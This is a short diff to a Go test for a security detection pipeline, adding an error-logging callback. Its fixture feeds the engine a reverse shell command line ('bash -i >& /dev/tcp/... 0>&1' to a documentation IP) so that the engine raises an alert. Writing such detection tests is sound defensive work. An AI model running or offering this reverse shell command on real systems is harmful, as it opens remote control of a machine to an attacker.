@@ -39,7 +39,8 @@ func TestPipelineStoresHitsAndTags(t *testing.T) {
 		t.Fatal(err)
 	}
 	defer st.Close()
-	p := pipeline.New(st, detections.NewEngine(res.Rules), pipeline.Options{KB: kb, FlushInterval: 50 * time.Millisecond})
+	p := pipeline.New(st, detections.NewEngine(res.Rules), pipeline.Options{KB: kb, FlushInterval: 50 * time.Millisecond,
+		OnError: func(err error) { t.Logf("pipeline error: %v", err) }})
 	// A reverse shell (an alert), an ARP cache listing (informational: a tag)
 	// and an ordinary command (nothing).
 	p.Add(linuxExec(10, "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/usr/sbin/nginx"))
